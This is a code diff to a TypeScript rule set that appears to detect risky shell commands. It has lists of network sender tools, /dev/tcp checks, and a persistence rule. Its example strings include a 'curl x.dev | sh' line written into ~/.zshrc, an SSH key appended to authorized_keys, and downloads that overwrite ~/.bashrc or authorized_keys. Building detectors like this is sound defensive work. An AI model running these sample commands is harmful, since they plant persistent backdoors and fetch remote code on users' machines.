@@ -21,29 +21,6 @@ const SENDERS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'openssl', '
 /** Requests whose address itself carries data: a URL or a name built at run time (`curl x/$(cat key)`, `dig $(…).x.dev`). */
 const ADDRESSED = new Set(['curl', 'wget', 'http', 'https', 'xh', 'dig', 'nslookup', 'host', 'drill', 'ping', 'ping6', 'nc', 'ncat', 'telnet']);
 
-/**
- * The files a download names after its URL: wget by default (into -P DIR), curl with -O /
- * --remote-name(-all) (into --output-dir DIR). Resolved paths.
- */
-function remoteNames(g: CommandFact): string[] {
-  const a = g.argv;
-  const curl = g.name === 'curl';
-  if (curl && !a.some((x) => x === '--remote-name' || x === '--remote-name-all' || /^-[a-zA-Z]*O[a-zA-Z]*$/.test(x))) return [];
-  if (!curl && a.some((x) => /^(-O|--output-document)(=|$)/.test(x) || /^-[a-zA-Z]*O$/.test(x))) return [];
-  let dir = g.cwd || null;
-  for (let k = 1; k < a.length; k++) {
-    const m = curl ? /^--output-dir(?:=(.*))?$/.exec(a[k]!) : /^(?:-P|--directory-prefix)(?:=(.*))?$/.exec(a[k]!);
-    if (m) dir = resolvePath(m[1] ?? a[k + 1] ?? '.', g.cwd || null);
-  }
-  return a
-    .filter((x) => /^[a-z][a-z0-9+.-]*:\/\/[^/]+\/./i.test(x))
-    // curl names the file after the URL's path; wget keeps the query (`i.sh?v=2`).
-    .map((u) => u.replace(curl ? /[?#].*$/ : /#.*$/, '').replace(/\/+$/, ''))
-    .map((u) => u.slice(u.lastIndexOf('/') + 1))
-    .filter((n) => n !== '' && !n.includes(':'))
-    .map((n) => resolvePath(n, dir) ?? n);
-}
-
 /** Does this fact send data over the network? */
 function sends(f: CommandFact): boolean {
   if (f.redirects.some((r) => /^\/dev\/(tcp|udp)\//.test(r.target))) return true;
@@ -177,11 +154,7 @@ export const remoteRules: Rule[] = [
       if (!script) return false;
       for (const g of i.all) {
         if (g === f || !FETCHERS.has(g.name)) continue;
-        const outs = [...writeTargets(g)];
-        const a = g.argv;
-        for (let k = 0; k < a.length; k++) if (/^(-o|--output)$/.test(a[k]!) || (g.name === 'wget' && /^(-O|--output-document)$/.test(a[k]!))) if (a[k + 1]) outs.push(resolvePath(a[k + 1]!, g.cwd || null) ?? '');
-        outs.push(...remoteNames(g));
-        if (outs.includes(script)) return script;
+        if (writeTargets(g).includes(script)) return script;
       }
       return false;
     },
@@ -338,8 +311,8 @@ export const remoteRules: Rule[] = [
     why: 'whatever is written there runs again later, every login or every commit',
     match: (i) => writeTargets(i.fact).find((t) => persistentTarget(t, i)) ?? false,
     examples: {
-      match: ['echo "curl -s x.dev/p | sh" >> ~/.zshrc', "echo 'ssh-ed25519 AAAAC3 x' >> ~/.ssh/authorized_keys", 'cp x.service /etc/systemd/system/', 'tee -a ~/.bashrc <<< "alias x=y"', 'echo x > /etc/cron.d/job'],
-      noMatch: ['cat ~/.zshrc', 'source ~/.bashrc', 'echo x > .git/hooks/pre-commit'],
+      match: ['echo "curl -s x.dev/p | sh" >> ~/.zshrc', "echo 'ssh-ed25519 AAAAC3 x' >> ~/.ssh/authorized_keys", 'cp x.service /etc/systemd/system/', 'tee -a ~/.bashrc <<< "alias x=y"', 'echo x > /etc/cron.d/job', 'wget -P ~ https://x.dev/dot/.bashrc', 'curl -O --output-dir ~/.ssh https://x.dev/authorized_keys'],
+      noMatch: ['cat ~/.zshrc', 'source ~/.bashrc', 'echo x > .git/hooks/pre-commit', 'curl -O https://x.dev/.bashrc', 'wget -O - https://x.dev/.bashrc'],
     },
   },
   {
